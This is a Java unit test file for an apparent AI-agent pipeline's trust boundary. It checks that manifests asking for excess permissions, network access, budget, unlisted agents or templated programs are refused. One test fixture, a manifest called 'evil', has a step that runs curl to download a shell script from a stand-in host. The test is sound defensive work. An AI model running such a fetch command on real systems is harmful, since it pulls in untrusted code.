package dev.overnight.core.pipeline;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.overnight.api.config.AgentPreferences;
import dev.overnight.api.config.ConfigProblem;
import dev.overnight.api.config.ConfigValue;
import dev.overnight.api.config.Limits;
import dev.overnight.api.config.OrchestrationConfig;
import dev.overnight.api.config.PermissionMode;
import dev.overnight.api.config.Permissions;
import dev.overnight.api.config.QualityGate;
import dev.overnight.api.config.SpendingLimit;
import dev.overnight.core.pipeline.internal.BuiltInOperations;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

class TrustBoundaryTest {
  private static final PipelineLoader LOADER = PipelineLoader.of(BuiltInOperations.all());

  private static final OrchestrationConfig CONFIG =
      OrchestrationConfig.builder(ConfigValue.of("/tmp/ws"))
          .permissions(Permissions.unattended())
          .agentPreferences(
              new AgentPreferences(List.of("claude-code"), List.of("claude-code", "codex")))
          .qualityGate(new QualityGate(Optional.of("mvn -q verify"), 600, false, 0))
          .limits(
              new Limits(
                  SpendingLimit.unbounded(),
                  new SpendingLimit(Optional.of(100_000L), Optional.empty(), Optional.empty()),
                  600,
                  30))
          .build();

  private static final TrustBoundary BOUNDARY =
      TrustBoundary.of(CONFIG, Set.of("claude-code", "codex", "gemini"));

  private static List<String> refusals(String manifest) {
    return BOUNDARY.refusals(LOADER.read("test", manifest)).stream()
        .map(ConfigProblem::toString)
        .toList();
  }

  @Test
  void aManifestAskingForMoreThanTheConfigAllowsIsRefusedWithEveryReason() {
    PipelineManifest m =
        LOADER.read(
            "evil",
            """
            name: evil
            permissions: {mode: allow_all, allow_fetch: true, allow_network: true}
            budget: {tokens: 5000000}
            steps:
              - id: a
                op: agent_turn
                with: {agent: gemini, prompt: hi}
              - id: b
                op: agent_turn
                with: {agent: "${inputs.who}", prompt: hi}
              - id: c
                op: command
                with: {run: "curl https://example.com/x.sh"}
              - id: d
                op: review
                with: {agent: stranger}
                permissions: {mode: allow_all}
            inputs:
              who: {}
            """);

    assertThatThrownBy(() -> BOUNDARY.check(m))
        .isInstanceOf(PipelineRefusedException.class)
        .hasMessageStartingWith("Refused pipeline evil:")
        .satisfies(
            e ->
                assertThat(
                        ((PipelineRefusedException) e)
                            .reasons().stream().map(ConfigProblem::toString))
                    .containsExactlyInAnyOrder(
                        "/permissions/mode: asks for permission mode allow_all, above the config's"
                            + " unattended (permissions.mode)",
                        "/permissions/allow_fetch: asks to fetch from the web, which the config does"
                            + " not allow (permissions.allow_fetch)",
                        "/permissions/allow_network: asks for the network, which the config does not"
                            + " allow (permissions.allow_network)",
                        "/budget/tokens: 5000000 tokens is above the config's per-task limit of"
                            + " 100000",
                        "/steps/0/with/agent: agent \"gemini\" is not in the config's agents.allow",
                        "/steps/1/with/agent: the agent must be written out, not filled in from a"
                            + " template",
                        "/steps/2/with/run: runs \"curl\", which the config does not run (allowed:"
                            + " mvn)",
                        "/steps/3/permissions/mode: asks for permission mode allow_all, above the"
                            + " config's unattended (permissions.mode)",
                        "/steps/3/with/agent: agent \"stranger\" is not one the config has"
                            + " (claude-code, codex, gemini)"));
  }

  @Test
  void aManifestWithinTheConfigPassesAndMayAskForLess() {
    assertThat(
            refusals(
                """
                name: fine
                permissions: {mode: read_only}
                steps:
                  - id: a
                    op: agent_turn
                    with: {agent: codex, prompt: hi}
                  - id: b
                    op: command
                    with: {run: "mvn -q versions:use-latest-releases"}
                """))
        .isEmpty();
  }

  @Test
  void theProgramMustBeLiteralAndExtraProgramsAreTheLocalUsersChoice() {
    String manifest =
        """
        name: p
        inputs: {tool: {}}
        steps:
          - {id: a, op: command, with: {run: "${inputs.tool} build"}}
          - {id: b, op: command, with: {run: "make lint"}}
        """;
    assertThat(refusals(manifest)).hasSize(2);
    assertThat(
            BOUNDARY.allowingPrograms(List.of("make")).refusals(LOADER.read("t", manifest)).stream()
                .map(ConfigProblem::toString))
        .containsExactly(
            "/steps/0/with/run: the program must be written out, not filled in from a template");
  }

  @Test
  void anAgentsModeIsTheLowestOfWhatIsAskedTheManifestsAndTheConfigs() {
    PipelineManifest m =
        LOADER.read(
            "t",
            """
            name: p
            steps:
              - {id: a, op: agent_turn, with: {prompt: x}}
              - {id: b, op: agent_turn, with: {prompt: x}, permissions: {mode: read_only}}
            """);

    assertThat(BOUNDARY.modeFor(m, m.steps().get(0), PermissionMode.ALLOW_ALL))
        .isEqualTo(PermissionMode.UNATTENDED);
    assertThat(BOUNDARY.modeFor(m, m.steps().get(1), PermissionMode.ALLOW_ALL))
        .isEqualTo(PermissionMode.READ_ONLY);
    assertThat(BOUNDARY.modeFor(m, m.steps().get(0), PermissionMode.READ_ONLY))
        .isEqualTo(PermissionMode.READ_ONLY);
  }
}
